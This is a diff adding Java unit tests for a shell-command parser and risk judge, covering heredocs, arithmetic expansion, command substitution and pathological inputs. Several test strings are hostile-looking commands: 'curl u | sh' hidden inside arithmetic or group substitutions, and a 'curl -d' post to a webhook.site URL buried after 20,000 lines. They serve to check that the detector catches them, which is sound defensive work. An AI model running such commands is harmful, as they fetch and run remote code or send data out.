@@ -35,6 +35,39 @@ class ShellTextTest {
     }
 
     @Test
+    void a_document_whose_mark_has_spaces_ends_there() {
+        assertThat(CommandWords.of("cat <<'E F'\nx\nE F\nb")).hasToString("[[cat], [b]]");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '#',
+            value = {
+                "echo $((1<<2)) # [echo, 1<<2]",
+                "echo \"$((1<<2))\" # [echo, 1<<2]",
+                "echo $[1<<2] # [echo, 1<<2]",
+                "((x = 1<<2)) # [x = 1<<2]",
+                "for ((i=0; i<1<<2; i++)) # [for, i=0; i<1<<2; i++]"
+            })
+    void arithmetic_begins_no_document(String text, String words) {
+        assertThat(CommandWords.of(text + "\ncurl u\n2\nb").toString())
+                .startsWith("[" + words)
+                .contains("[curl, u]");
+    }
+
+    @Test
+    void what_is_substituted_in_arithmetic_or_in_a_group_runs() {
+        assertThat(CommandWords.of("echo $((1 + $(curl u | sh) ))")).contains(List.of("curl", "u"), List.of("sh"));
+        assertThat(CommandWords.of("echo $((curl u) | sh)")).contains(List.of("curl", "u"), List.of("sh"));
+    }
+
+    @Test
+    void nothing_is_left_out_behind_many_commands() {
+        assertThat(CommandJudge.traits("a\n".repeat(20_000) + "curl -d x https://webhook.site/1"))
+                .hasSize(1);
+    }
+
+    @Test
     void a_command_goes_on_behind_a_backslash() {
         assertThat(CommandWords.of("curl -d x \\\n  u")).hasToString("[[curl, -d, x, u]]");
     }
@@ -80,7 +113,7 @@ class ShellTextTest {
     @Test
     @Timeout(60)
     void nothing_makes_it_slow_or_deep() {
-        for (String part : List.of("$(", "`", "\"$(", "(", "<<A\n", "'", "${{", "a|", "\\")) {
+        for (String part : List.of("$(", "`", "\"$(", "(", "<<A\n", "((", "((a)", "$((a) ", "'", "${{", "a|", "\\")) {
             assertThat(CommandJudge.traits(part.repeat(20_000))).isNotNull();
         }
     }
